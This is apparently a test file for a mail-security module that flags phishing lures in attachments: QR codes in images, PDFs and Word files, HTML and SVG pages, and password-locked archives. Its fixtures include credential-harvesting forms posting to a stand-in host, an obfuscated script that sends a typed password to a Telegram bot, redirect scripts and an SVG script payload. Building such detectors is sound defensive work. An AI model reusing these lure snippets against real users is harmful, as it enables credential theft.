import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { performance } from 'node:perf_hooks';
import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import { strToU8, zipSync } from 'fflate';
import jpeg from 'jpeg-js';
import { GifWriter } from 'omggif';
import { PNG } from 'pngjs';
import QRCode from 'qrcode';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ParsedMessage, parseMessage, sha256 } from '../../mail/parse.ts';
import { encryptedArchive, passwordsIn } from './archives.ts';
import { attachmentLures, closeAttachmentLures } from './index.ts';
import { judgePages } from './judge.ts';

const PHISH_URL = 'https://evil.example/o365/login?session=8f2a';

function message(overrides: Partial<ParsedMessage> = {}): ParsedMessage {
  return {
    fromAddress: 'billing@acme.example',
    fromName: 'Acme Billing',
    subject: 'Your invoice',
    messageId: null,
    date: null,
    text: 'Please find your invoice attached.',
    html: null,
    attachments: [],
    ...overrides,
  };
}

function attachment(filename: string, content: Uint8Array, contentType = 'application/octet-stream') {
  const bytes = Buffer.from(content);
  return { filename, contentType, size: bytes.length, sha256: sha256(bytes), content: bytes };
}

/** A QR code as a PNG, drawn by the `qrcode` package (not by the code under test). */
const qrPng = (text: string, options: QRCode.QRCodeToBufferOptions = {}) =>
  QRCode.toBuffer(text, { type: 'png', scale: 6, margin: 4, ...options });

/** The QR code's modules as brightness bytes, `scale` pixels a module, with a white margin. */
async function qrGray(
  text: string,
  scale: number,
): Promise<{ width: number; height: number; data: Uint8Array }> {
  const png = PNG.sync.read(await qrPng(text, { scale }));
  const data = new Uint8Array(png.width * png.height);
  for (let i = 0; i < data.length; i++) data[i] = png.data[i * 4]!;
  return { width: png.width, height: png.height, data };
}

async function qrJpeg(text: string): Promise<Buffer> {
  const png = PNG.sync.read(await qrPng(text, { scale: 8 }));
  return jpeg.encode({ width: png.width, height: png.height, data: png.data }, 85).data;
}

/** A one-page PDF that paints one image XObject (dictionary entries and samples as given). */
function pdfWithImage(imageDict: string, samples: Buffer): Buffer {
  const objects: Buffer[] = [
    Buffer.from('<< /Type /Catalog /Pages 2 0 R >>'),
    Buffer.from('<< /Type /Pages /Kids [3 0 R] /Count 1 >>'),
    Buffer.from(
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im1 4 0 R >> >> /Contents 5 0 R >>',
    ),
    Buffer.concat([
      Buffer.from(`<< /Type /XObject /Subtype /Image ${imageDict} /Length ${samples.length} >>\nstream\n`),
      samples,
      Buffer.from('\nendstream'),
    ]),
    (() => {
      const content = 'q 200 0 0 200 197 500 cm /Im1 Do Q';
      return Buffer.from(`<< /Length ${content.length} >>\nstream\n${content}\nendstream`);
    })(),
  ];
  const parts: Buffer[] = [Buffer.from('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let length = parts[0]!.length;
  objects.forEach((body, i) => {
    offsets.push(length);
    const object = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), body, Buffer.from('\nendobj\n')]);
    parts.push(object);
    length += object.length;
  });
  const xref = [
    'xref',
    `0 ${objects.length + 1}`,
    '0000000000 65535 f ',
    ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n `),
    'trailer',
    `<< /Size ${objects.length + 1} /Root 1 0 R >>`,
    'startxref',
    String(length),
    '%%EOF\n',
  ].join('\n');
  parts.push(Buffer.from(xref));
  return Buffer.concat(parts);
}

let tmp: string;
beforeAll(() => {
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'moat-lures-'));
});
afterAll(async () => {
  await closeAttachmentLures();
  fs.rmSync(tmp, { recursive: true, force: true });
});

describe('attachmentLures: QR codes', () => {
  it('reads the URL of a QR code in an attached PNG, as a link to judge and 2 points of evidence', async () => {
    const started = performance.now();
    const result = await attachmentLures(
      message({ attachments: [attachment('scan-me.png', await qrPng(PHISH_URL), 'image/png')] }),
    );
    const took = performance.now() - started;
    expect(result.links).toEqual([{ href: PHISH_URL, text: 'QR code in scan-me.png' }]);
    expect(result.evidence).toEqual([
      expect.objectContaining({
        name: 'QR_CODE_LINK',
        score: 2,
        description: expect.stringContaining('evil.example'),
      }),
    ]);
    // The first call starts the worker thread; the next ones show the decode itself.
    const png = message({ attachments: [attachment('scan-me.png', await qrPng(PHISH_URL), 'image/png')] });
    const again = performance.now();
    for (let i = 0; i < 5; i++) await attachmentLures(png);
    const each = (performance.now() - again) / 5;
    console.info(`QR PNG: first ${took.toFixed(0)} ms (worker start), then ${each.toFixed(1)} ms`);
  });

  it('reads a QR code in a JPEG, in a GIF and in an inline PNG of the HTML body', async () => {
    const jpegResult = await attachmentLures(
      message({ attachments: [attachment('photo.jpg', await qrJpeg(PHISH_URL))] }),
    );
    expect(jpegResult.links).toEqual([{ href: PHISH_URL, text: 'QR code in photo.jpg' }]);

    const gray = await qrGray(PHISH_URL, 5);
    const gif = Buffer.alloc(gray.width * gray.height + 1024);
    const writer = new GifWriter(gif, gray.width, gray.height, { palette: [0x000000, 0xffffff] });
    writer.addFrame(
      0,
      0,
      gray.width,
      gray.height,
      Array.from(gray.data, (v) => (v > 127 ? 1 : 0)),
    );
    const gifResult = await attachmentLures(
      message({ attachments: [attachment('code.gif', gif.subarray(0, writer.end()))] }),
    );
    expect(gifResult.links).toEqual([{ href: PHISH_URL, text: 'QR code in code.gif' }]);

    const inline = (await qrPng('https://evil.example/mfa')).toString('base64');
    const bodyResult = await attachmentLures(
      message({ html: `<p>Scan to keep your mailbox:</p><img src="data:image/png;base64,${inline}">` }),
    );
    expect(bodyResult.links).toEqual([
      { href: 'https://evil.example/mfa', text: 'QR code in an image in the message body' },
    ]);
  });

  it('reads a light QR code on a dark background', async () => {
    const inverted = await qrPng(PHISH_URL, { color: { dark: '#ffffffff', light: '#000000ff' } });
    const result = await attachmentLures(message({ attachments: [attachment('dark.png', inverted)] }));
    expect(result.links.map((l) => l.href)).toEqual([PHISH_URL]);
  });

  it('reads the QR code of an inline image in a real multipart/related message', async () => {
    const qr = (await qrPng(PHISH_URL)).toString('base64').replace(/.{76}/g, '$&\r\n');
    const raw = [
      'From: "IT Helpdesk" <helpdesk@acme.example>',
      'To: ana@acme.test',
      'Subject: MFA re-enrolment',
      'MIME-Version: 1.0',
      'Content-Type: multipart/related; boundary="b1"',
      '',
      '--b1',
      'Content-Type: text/html; charset=utf-8',
      '',
      '<p>Scan the code below with your phone.</p><img src="cid:qr1">',
      '--b1',
      'Content-Type: image/png; name="qr.png"',
      'Content-Transfer-Encoding: base64',
      'Content-ID: <qr1>',
      'Content-Disposition: inline; filename="qr.png"',
      '',
      qr,
      '--b1--',
      '',
    ].join('\r\n');
    const result = await attachmentLures(await parseMessage(Buffer.from(raw)));
    expect(result.links).toEqual([{ href: PHISH_URL, text: 'QR code in qr.png' }]);
  });

  it('reads QR codes in PDF images with PNG predictors and palettes, and returns the PDF link targets', async () => {
    const gray = await qrGray('https://evil.example/predicted', 4);
    // PNG "Up" predictor on every row, as PDF writers store PNG pictures.
    const rows = Buffer.alloc((gray.width + 1) * gray.height);
    for (let y = 0; y < gray.height; y++) {
      rows[y * (gray.width + 1)] = 2;
      for (let x = 0; x < gray.width; x++) {
        const up = y > 0 ? gray.data[(y - 1) * gray.width + x]! : 0;
        rows[y * (gray.width + 1) + 1 + x] = (gray.data[y * gray.width + x]! - up) & 0xff;
      }
    }
    const predicted = pdfWithImage(
      `/Width ${gray.width} /Height ${gray.height} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode /DecodeParms << /Predictor 15 /Colors 1 /Columns ${gray.width} >>`,
      deflateSync(rows),
    );
    // A two-colour palette, white first: index 0 white, 1 black.
    const indices = Buffer.from(gray.data.map((v) => (v > 127 ? 0 : 1)));
    const palette = pdfWithImage(
      `/Width ${gray.width} /Height ${gray.height} /ColorSpace [/Indexed /DeviceRGB 1 <FFFFFF000000>] /BitsPerComponent 8 /Filter /FlateDecode`,
      deflateSync(indices),
    );
    const annotated = Buffer.concat([
      palette,
      Buffer.from(
        '6 0 obj\n<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://evil.example/pdf-button) >> >>\nendobj\n',
      ),
    ]);
    const result = await attachmentLures(
      message({
        attachments: [attachment('scan.pdf', predicted), attachment('letter.pdf', annotated)],
      }),
    );
    expect(result.links).toEqual([
      { href: 'https://evil.example/predicted', text: 'QR code in scan.pdf' },
      { href: 'https://evil.example/predicted', text: 'QR code in letter.pdf' },
      { href: 'https://evil.example/pdf-button', text: 'Link in letter.pdf' },
    ]);
  });

  it('reads QR codes in PDFs: a JPEG (DCTDecode) image and raw 8-bit and 1-bit (FlateDecode) images', async () => {
    const jpegBytes = await qrJpeg(PHISH_URL);
    const size = jpeg.decode(jpegBytes);
    const dct = pdfWithImage(
      `/Width ${size.width} /Height ${size.height} /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode`,
      jpegBytes,
    );
    const gray = await qrGray('https://evil.example/pdf-gray', 4);
    const flate = pdfWithImage(
      `/Width ${gray.width} /Height ${gray.height} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode`,
      deflateSync(gray.data),
    );
    const rowBytes = Math.ceil(gray.width / 8);
    const bits = Buffer.alloc(rowBytes * gray.height);
    for (let y = 0; y < gray.height; y++) {
      for (let x = 0; x < gray.width; x++) {
        if (gray.data[y * gray.width + x]! > 127) bits[y * rowBytes + (x >> 3)]! |= 0x80 >> (x & 7);
      }
    }
    const mono = pdfWithImage(
      `/Width ${gray.width} /Height ${gray.height} /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter [/FlateDecode]`,
      deflateSync(bits),
    );
    fs.writeFileSync(path.join(tmp, 'dct.pdf'), dct);

    const pdfs = message({
      attachments: [
        attachment('invoice.pdf', dct, 'application/pdf'),
        attachment('statement.pdf', flate, 'application/pdf'),
        attachment('notice.pdf', mono, 'application/pdf'),
      ],
    });
    const result = await attachmentLures(pdfs);
    const started = performance.now();
    for (let i = 0; i < 5; i++) await attachmentLures(pdfs);
    console.info(`three PDFs with a QR image each: ${((performance.now() - started) / 5).toFixed(1)} ms`);
    expect(result.links).toEqual([
      { href: PHISH_URL, text: 'QR code in invoice.pdf' },
      { href: 'https://evil.example/pdf-gray', text: 'QR code in statement.pdf' },
      { href: 'https://evil.example/pdf-gray', text: 'QR code in notice.pdf' },
    ]);
    expect(result.evidence).toEqual([
      expect.objectContaining({
        name: 'QR_CODE_LINK',
        score: 2,
        description: expect.stringContaining('invoice.pdf, statement.pdf, notice.pdf'),
      }),
    ]);
  });

  it('reads a QR code among the pictures of a Word document', async () => {
    const docx = zipSync({
      '[Content_Types].xml': strToU8('<?xml version="1.0"?><Types/>'),
      'word/document.xml': strToU8('<w:document/>'),
      'word/media/image1.png': await qrPng('https://evil.example/docx'),
    });
    const result = await attachmentLures(message({ attachments: [attachment('Contract.docx', docx)] }));
    expect(result.links).toEqual([{ href: 'https://evil.example/docx', text: 'QR code in Contract.docx' }]);
  });

  it('finds no QR code and no evidence in a picture without one', async () => {
    const png = new PNG({ width: 300, height: 200 });
    let seed = 7;
    for (let i = 0; i < png.data.length; i++) {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      png.data[i] = i % 4 === 3 ? 255 : seed & 0xff;
    }
    const result = await attachmentLures(
      message({ attachments: [attachment('photo.png', PNG.sync.write(png))] }),
    );
    expect(result).toEqual({ links: [], evidence: [] });
  });

  it('gives up on pictures past the time box with no score, the event loop ticking all along, and reads the next message', async () => {
    // A 3,000 x 3,000 picture takes far longer than 1 ms to decode.
    const big = new PNG({ width: 3000, height: 3000 });
    big.data.fill(255);
    const bigPng = PNG.sync.write(big, { deflateLevel: 1 });
    let ticks = 0;
    let longestGap = 0;
    let last = performance.now();
    const timer = setInterval(() => {
      const now = performance.now();
      longestGap = Math.max(longestGap, now - last);
      last = now;
      ticks += 1;
    }, 5);
    try {
      // A message that really takes a while (the whole picture read, within the box)…
      const started = performance.now();
      const loop = performance.eventLoopUtilization();
      const full = await attachmentLures(message({ attachments: [attachment('poster.png', bigPng)] }), {
        timeoutMs: 10_000,
      });
      const took = performance.now() - started;
      // How much of that time the main thread was busy rather than waiting (other processes taking
      // the CPU do not count as busy, so this holds on a loaded machine where tick gaps do not).
      const busy = performance.eventLoopUtilization(loop).utilization;
      expect(full.evidence).toEqual([]);
      console.info(
        `3000x3000 PNG read in ${took.toFixed(0)} ms; main thread busy ${(busy * 100).toFixed(0)} % of it, the event loop ticked ${ticks} times, longest gap ${longestGap.toFixed(0)} ms`,
      );
      expect(busy).toBeLessThan(0.25);
      expect(ticks).toBeGreaterThanOrEqual(3);

      // …and one cut short.
      const cut = await attachmentLures(message({ attachments: [attachment('poster.png', bigPng)] }), {
        timeoutMs: 1,
      });
      expect(cut.links).toEqual([]);
      expect(cut.evidence).toEqual([expect.objectContaining({ name: 'QR_SCAN_INCOMPLETE', score: 0 })]);
      expect(cut.evidence[0]!.description).toMatch(/longer than 1 ms/);
    } finally {
      clearInterval(timer);
    }
    // The ended worker is replaced for the next message.
    const next = await attachmentLures(
      message({ attachments: [attachment('qr.png', await qrPng(PHISH_URL))] }),
    );
    expect(next.links.map((l) => l.href)).toEqual([PHISH_URL]);
  });

  it('costs next to nothing for a message without attachments', async () => {
    const plain = message();
    const rounds = 10_000;
    const started = performance.now();
    for (let i = 0; i < rounds; i++) await attachmentLures(plain);
    const each = ((performance.now() - started) / rounds) * 1000;
    console.info(`message without attachments: ${each.toFixed(2)} µs`);
    expect(each).toBeLessThan(50);
  });
});

describe('attachmentLures: damaged attachments', () => {
  it('answers for any bytes behind any name or file signature, without throwing', async () => {
    const signatures = [
      '',
      '\x89PNG\r\n\x1a\n',
      '\xff\xd8\xff',
      'GIF89a',
      '%PDF-1.4\n',
      'PK\x03\x04',
      '7z\xbc\xaf\x27\x1c',
      'Rar!\x1a\x07\x00',
      'Rar!\x1a\x07\x01\x00',
      '<svg ',
      '<html>',
    ];
    const names = ['a.png', 'a.pdf', 'a.zip', 'a.html', 'a.svg', 'a.docx', 'a.bin'];
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...signatures),
        fc.uint8Array({ maxLength: 400 }),
        fc.constantFrom(...names),
        async (signature, tail, name) => {
          const bytes = Buffer.concat([Buffer.from(signature, 'latin1'), Buffer.from(tail)]);
          const result = await attachmentLures(
            message({ text: 'password: 1234', attachments: [attachment(name, bytes)] }),
          );
          expect(Array.isArray(result.links) && Array.isArray(result.evidence)).toBe(true);
        },
      ),
      { numRuns: 150 },
    );
  });
});

describe('attachmentLures: HTML and SVG attachments', () => {
  it('calls an HTML credential form posting to another site phishing (6 + 3 points) and returns its target', async () => {
    const page = `<!DOCTYPE html><html><head><title>Microsoft 365</title></head><body>
      <form method="post" action="https://evil&#46;example/collect.php">
        <input type="email" name="login" placeholder="Email"><input type="password" name="passwd">
        <button>Sign in</button></form></body></html>`;
    const result = await attachmentLures(
      message({ attachments: [attachment('Invoice_4471.html', Buffer.from(page), 'text/html')] }),
    );
    expect(result.evidence).toEqual([
      {
        name: 'HTML_ATTACHMENT_CREDENTIAL_FORM',
        score: 6,
        description:
          'An attached HTML page (Invoice_4471.html) asks for a password and sends it to another site (evil.example)',
      },
      expect.objectContaining({
        name: 'HTML_ATTACHMENT_FOREIGN_FORM',
        score: 3,
        description: expect.stringContaining('acme.example'),
      }),
    ]);
    expect(result.links).toEqual([
      { href: 'https://evil.example/collect.php', text: 'Form in Invoice_4471.html' },
    ]);
  });

  it('sees a credential form written by obfuscated script, sent off by fetch to a Telegram bot', async () => {
    const hidden = Buffer.from('<form><input type="password" id="p"></form>').toString('base64');
    const page = `<html><body><script>
      document.write(atob("${hidden}"));
      function go(){ fetch("https://api.telegram.org/bot123:abc/sendMessage", {method: "POST", body: p.value}); }
    </script></body></html>`;
    const result = await attachmentLures(
      message({ attachments: [attachment('secure-message.htm', Buffer.from(page))] }),
    );
    expect(result.evidence.map((e) => [e.name, e.score])).toEqual([
      ['HTML_ATTACHMENT_CREDENTIAL_FORM', 6],
      ['HTML_ATTACHMENT_FOREIGN_FORM', 3],
      ['HTML_ATTACHMENT_OBFUSCATED_SCRIPT', 2],
    ]);
    expect(result.evidence[0]!.description).toContain('api.telegram.org');
  });

  it('flags an HTML page that sends the reader away on opening (script or meta refresh)', async () => {
    const script = '<html><script>window.location.href = "https://evil.example/start";</script></html>';
    const refresh =
      '<html><head><meta http-equiv="refresh" content="0; url=https://evil.example/r"></head></html>';
    const a = await attachmentLures(message({ attachments: [attachment('view.html', Buffer.from(script))] }));
    expect(a.evidence).toEqual([
      {
        name: 'HTML_ATTACHMENT_REDIRECT',
        score: 3,
        description:
          'An attached HTML page (view.html) sends the reader to another page as soon as it is opened (evil.example)',
      },
    ]);
    expect(a.links).toEqual([{ href: 'https://evil.example/start', text: 'Script in view.html' }]);
    const b = await attachmentLures(
      message({ attachments: [attachment('view.html', Buffer.from(refresh))] }),
    );
    expect(b.evidence.map((e) => e.name)).toEqual(['HTML_ATTACHMENT_REDIRECT']);
    expect(b.links).toEqual([{ href: 'https://evil.example/r', text: 'Redirect in view.html' }]);
  });

  it('calls script in an SVG image 4 points, 7 with a redirect', async () => {
    const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
      <rect width="100" height="100" fill="#0078d4"/>
      <script type="text/javascript"><![CDATA[ window.location.replace("https://evil.example/?e=ana@acme.test"); ]]></script></svg>`;
    const result = await attachmentLures(
      message({ attachments: [attachment('voicemail.svg', Buffer.from(svg), 'image/svg+xml')] }),
    );
    expect(result.evidence).toEqual([
      {
        name: 'SVG_ATTACHMENT_SCRIPT',
        score: 4,
        description:
          'An attached SVG image (voicemail.svg) carries script, which runs when it is opened in a browser: pictures do not need any',
      },
      expect.objectContaining({ name: 'SVG_ATTACHMENT_REDIRECT', score: 3 }),
    ]);
    const handler = '<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="alert(1)"/></svg>';
    const onError = await attachmentLures(
      message({ attachments: [attachment('logo.svg', Buffer.from(handler))] }),
    );
    expect(onError.evidence.map((e) => e.name)).toEqual(['SVG_ATTACHMENT_SCRIPT']);
  });

  it('flags a link to a page hidden in a data: URL', async () => {
    const page =
      '<html><body><a href="data:text/html;base64,PGgxPkhpPC9oMT4=">Open the document</a></body></html>';
    const result = await attachmentLures(
      message({ attachments: [attachment('doc.html', Buffer.from(page))] }),
    );
    expect(result.evidence).toEqual([
      expect.objectContaining({ name: 'HTML_ATTACHMENT_DATA_PAGE', score: 2 }),
    ]);
  });

  it('reads a large page with non-ASCII text in linear time (V8 once made the tag scan quadratic)', () => {
    const rows = '<tr><td class="item">Widget – größe M</td><td>€ 18.00</td></tr>'.repeat(8_000);
    const page = Buffer.from(`<!doctype html><html><body><table>${rows}</table></body></html>`);
    const started = performance.now();
    const result = judgePages({
      pages: [{ kind: 'HTML', filename: 'receipt.html', content: page }],
      senderSite: 'acme.example',
    });
    const took = performance.now() - started;
    console.info(`receipt of ${(page.length / 1024).toFixed(0)} KB judged in ${took.toFixed(1)} ms`);
    expect(result.evidence).toEqual([]);
    expect(took).toBeLessThan(500);
  });

  it('finds nothing in a plain HTML receipt and returns its links to be judged', async () => {
    const receipt = `<!doctype html><html><head><style>td{padding:4px}</style></head><body>
      <h1>Receipt #1182</h1><table><tr><td>2 x Widget</td><td>€ 18.00</td></tr></table>
      <p>Questions? <a href="https://www.acme.example/help">Contact us</a>.</p></body></html>`;
    const result = await attachmentLures(
      message({ attachments: [attachment('receipt.html', Buffer.from(receipt), 'text/html')] }),
    );
    expect(result).toEqual({
      links: [{ href: 'https://www.acme.example/help', text: 'Link in receipt.html' }],
      evidence: [],
    });
    const logo =
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle cx="5" cy="5" r="4"/></svg>';
    expect(
      await attachmentLures(message({ attachments: [attachment('logo.svg', Buffer.from(logo))] })),
    ).toEqual({
      links: [],
      evidence: [],
    });
  });

  it('reads a long page in linear time, on the worker thread, and a small one on the spot', async () => {
    const padding = "<div><a x='>".repeat(200_000);
    const page = `<html>${padding}<input type="password"></html>`;
    const padded = message({ attachments: [attachment('pad.html', Buffer.from(page))] });
    await attachmentLures(padded);
    const started = performance.now();
    const loop = performance.eventLoopUtilization();
    const result = await attachmentLures(padded);
    const busy = performance.eventLoopUtilization(loop).utilization;
    const took = performance.now() - started;
    console.info(
      `HTML page of ${(page.length / 1e6).toFixed(1)} MB: ${took.toFixed(0)} ms, main thread busy ${(busy * 100).toFixed(0)} % of it`,
    );
    expect(result.evidence.map((e) => e.name)).toEqual(['HTML_ATTACHMENT_CREDENTIAL_FORM']);
    expect(took).toBeLessThan(1_000);
    expect(busy).toBeLessThan(0.25);

    const small = message({
      attachments: [
        attachment(
          'login.html',
          Buffer.from(`<html>${'<p>Sign in</p>'.repeat(3_000)}<input type=password></html>`),
        ),
      ],
    });
    const onTheSpot = performance.now();
    const smallResult = await attachmentLures(small);
    console.info(`HTML page of 42 KB: ${(performance.now() - onTheSpot).toFixed(1)} ms`);
    expect(smallResult.evidence.map((e) => e.name)).toEqual(['HTML_ATTACHMENT_CREDENTIAL_FORM']);
  });
});

describe('attachmentLures: password-protected archives', () => {
  function zipWithPassword(password: string): Buffer {
    const dir = fs.mkdtempSync(path.join(tmp, 'zip-'));
    fs.writeFileSync(path.join(dir, 'invoice.js'), 'WScript.Echo("hi")\n'.repeat(50));
    execFileSync('zip', ['-q', '-P', password, 'invoice.zip', 'invoice.js'], { cwd: dir });
    return fs.readFileSync(path.join(dir, 'invoice.zip'));
  }

  it('finds the password in the body and checks that it opens the archive (zip -P)', async () => {
    const zip = zipWithPassword('8812');
    const result = await attachmentLures(
      message({
        text: 'Your invoice is attached.\nPassword: 8812\nRegards',
        attachments: [attachment('invoice.zip', zip)],
      }),
    );
    expect(result.evidence).toEqual([
      {
        name: 'ARCHIVE_PASSWORD_IN_BODY',
        score: 3,
        description:
          'An attached archive (invoice.zip) is locked with a password and the message gives the password (8812, which opens it): no scanner could look inside, the recipient can',
      },
    ]);
  });

  it('reads the password in German, French and Spanish', () => {
    expect(passwordsIn('Das Passwort lautet: Rechnung24').candidates).toEqual(['Rechnung24']);
    expect(passwordsIn('Kennwort für die Datei: 7731').candidates).toEqual(['7731']);
    expect(passwordsIn('Le mot de passe est « 4471 ».').candidates).toEqual(['4471']);
    expect(passwordsIn('La contraseña del archivo es 2024abc.').candidates).toEqual(['2024abc']);
    expect(passwordsIn('pw: xK9!q').candidates).toEqual(['xK9!q']);
    expect(passwordsIn('Your passport and boarding pass are attached').mentioned).toBe(false);
  });

  it('gives 1 point to a locked archive when the message does not give the password', async () => {
    const result = await attachmentLures(
      message({ attachments: [attachment('docs.zip', zipWithPassword('s3cret'))] }),
    );
    expect(result.evidence).toEqual([expect.objectContaining({ name: 'ENCRYPTED_ARCHIVE', score: 1 })]);
  });

  it('sees the AES encryption of a zip made by 7-Zip, and checks the password given against it', async () => {
    const dir = fs.mkdtempSync(path.join(tmp, '7z-'));
    fs.writeFileSync(path.join(dir, 'scan.js'), 'x');
    execFileSync('7zz', ['a', '-bso0', '-tzip', '-mem=AES256', '-pWinter2026', 'aes.zip', 'scan.js'], {
      cwd: dir,
    });
    const archive = encryptedArchive(fs.readFileSync(path.join(dir, 'aes.zip')));
    expect(archive?.entries).toEqual(['scan.js']);
    expect(archive?.opensWith('Winter2026')).toBe(true);
    expect(archive?.opensWith('Summer2026')).toBe(false);
  });

  it('sees 7-Zip archives whose file list is encrypted (-mhe), and RAR 4 and 5 encrypted headers', async () => {
    const dir = fs.mkdtempSync(path.join(tmp, '7z-'));
    fs.writeFileSync(path.join(dir, 'a.txt'), 'hello');
    execFileSync('7zz', ['a', '-bso0', '-p1234', '-mhe=on', 'locked.7z', 'a.txt'], { cwd: dir });
    execFileSync('7zz', ['a', '-bso0', 'open.7z', 'a.txt'], { cwd: dir });
    const locked = fs.readFileSync(path.join(dir, 'locked.7z'));
    expect(encryptedArchive(locked)?.format).toBe('7z');
    expect(encryptedArchive(fs.readFileSync(path.join(dir, 'open.7z')))).toBeNull();
    const result = await attachmentLures(
      message({ text: 'Das Passwort lautet 1234', attachments: [attachment('rechnung.7z', locked)] }),
    );
    expect(result.evidence).toEqual([
      expect.objectContaining({
        name: 'ARCHIVE_PASSWORD_IN_BODY',
        score: 3,
        description: expect.stringContaining('(1234)'),
      }),
    ]);

    // RAR 4: the main header's "block headers are encrypted" flag (rar -hp).
    const rar4 = Buffer.concat([
      Buffer.from('Rar!\x1a\x07\x00', 'latin1'),
      Buffer.from([0, 0, 0x73, 0x80, 0, 13, 0]),
      Buffer.alloc(6 + 32),
    ]);
    expect(encryptedArchive(rar4)?.format).toBe('rar');
    // RAR 5: an archive encryption header (rar -hp), and a file header with an encryption record (rar -p).
    const rar5Block = (header: number[], data = 0) =>
      Buffer.concat([Buffer.alloc(4), Buffer.from([header.length, ...header]), Buffer.alloc(data)]);
    const signature5 = Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1');
    const main5 = rar5Block([1, 0, 0]);
    const headers5 = Buffer.concat([
      signature5,
      rar5Block([4, 0, 0, 0, 15, ...Buffer.alloc(16)]),
      Buffer.alloc(32),
    ]);
    expect(encryptedArchive(headers5)?.format).toBe('rar');
    const record = [1, 0, 0, 15, ...Buffer.alloc(32)];
    const name = [...Buffer.from('a.txt')];
    const file5 = rar5Block(
      [2, 0x03, record.length + 1, 5, 0, 5, 0x20, 0, 0, name.length, ...name, record.length, ...record],
      5,
    );
    const files5 = Buffer.concat([signature5, main5, file5, rar5Block([5, 0, 0])]);
    expect(encryptedArchive(files5)).toEqual(expect.objectContaining({ format: 'rar', entries: ['a.txt'] }));
    const plain5 = Buffer.concat([
      signature5,
      main5,
      rar5Block([2, 0x02, 5, 0, 5, 0x20, 0, 0, name.length, ...name], 5),
      rar5Block([5, 0, 0]),
    ]);
    expect(encryptedArchive(plain5)).toBeNull();
  });

  it('says nothing of an archive without a password', async () => {
    const dir = fs.mkdtempSync(path.join(tmp, 'zip-'));
    fs.writeFileSync(path.join(dir, 'a.txt'), 'hello');
    execFileSync('zip', ['-q', 'plain.zip', 'a.txt'], { cwd: dir });
    const zip = fs.readFileSync(path.join(dir, 'plain.zip'));
    expect(encryptedArchive(zip)).toBeNull();
    expect(
      await attachmentLures(message({ text: 'password: 1234', attachments: [attachment('plain.zip', zip)] })),
    ).toEqual({
      links: [],
      evidence: [],
    });
  });
});
